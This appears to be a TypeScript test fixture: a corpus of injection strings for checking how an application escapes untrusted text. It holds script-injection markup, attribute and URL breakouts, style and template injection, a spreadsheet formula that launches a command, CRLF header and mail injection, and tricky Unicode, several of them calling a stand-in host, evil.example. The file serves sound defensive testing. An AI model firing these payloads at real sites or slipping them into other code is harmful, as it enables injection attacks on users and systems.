/**
 * Texts that do something where they are not shown as text, made for this test. Each would call `alert`,
 * set `naruHit`, leave the element or line it stands in, or ask another host for something. Short ones
 * are for short fields.
 */
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)><animate onbegin=alert(3) attributeName=x>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(4)</script></svg>#x">',
  '<iframe srcdoc="<script>parent.naruHit=5</script>"></iframe>',
  '<details open ontoggle=alert(6)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></table></math>',
  '<form><input name=attributes><input autofocus onfocus=alert(8)></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(9)>">',
  '</textarea></title></script><script>alert(10)</script>',
  '<object data=//evil.example/o></object><embed src=//evil.example/e>',
  '<base href=//evil.example/><link rel=stylesheet href=//evil.example/c>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<a href="java&#9;script:alert(11)">a</a>',
  '<x id=naruHit name=naruHit>',
  '<b onclick=alert(12)>',
  '<s>',
];
const ATTRIBUTES = [
  '" autofocus onfocus="alert(20)',
  "' onmouseover='alert(21)",
  '"><img src=x onerror=alert(22)>',
  '` onerror=alert(23) `',
];
const ADDRESSES = [
  'javascript:alert(30)',
  'java\tscript:alert(31)',
  'data:text/html,<script>alert(32)</script>',
  '//evil.example/x',
  '/\\evil.example/x',
  'https://evil.example/"onmouseover="alert(33)',
  'https://evil.example/x.png',
];
const STYLES = [
  '<p style="position:fixed;inset:0;z-index:9999;background:url(//evil.example/s)">a</p>',
  '</style><style>*{display:none;background:url(//evil.example/s)}',
  'red;background:url(//evil.example/s)',
  '<style>@import "//evil.example/i";</style>',
];
const TEMPLATES = [
  '[a](javascript:alert(40))',
  '![a](https://evil.example/m.png)',
  '{{constructor.constructor("alert(41)")()}}',
  '${' + 'alert(42)}',
  '<%= alert(43) %>',
  '{{7*7}}',
];
const LETTERS = [
  '\u202Etxet desrever\u202C \u2066a',
  '\u202E',
  `a${'\u0301'.repeat(30)}`,
  '\uFDFD'.repeat(12),
  'W'.repeat(160),
  'ㅋ'.repeat(120),
  'a\n'.repeat(40),
  `\u200B\u2060a\uFEFF`,
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}'.repeat(6),
  'a\u0000b',
];
const NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
const FORMULAS = ['=1+1', "=cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '\t=1+1', '＝1+1', '+1'];
const LINES = [
  'a\r\nBcc: victim@evil.example',
  'a\r\n\r\n<script>alert(50)</script>',
  'a\nSet-Cookie: naru=1',
  'a\n{"level":60,"msg":"forged"}',
  '\u001b[31mred\u001b[0m',
  'a\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:DISPLAY',
  'a";filename="b.html',
  "a'*=UTF-8''b.html",
  'a%0d%0aX-Forged: 1',
  'a\u2028b\u2029c\u0085d',
];

export const CORPUS: readonly string[] = [
  ...[MARKUP, ATTRIBUTES, ADDRESSES, STYLES, TEMPLATES, LETTERS, NAMES, FORMULAS, LINES].flat(),
];

/** The same with an address in front, for fields that take nothing else. */
export const IN_ADDRESS = [
  'https://evil.example/?q="><script>alert(60)</script>',
  "https://evil.example/#'onmouseover=alert(61)",
];
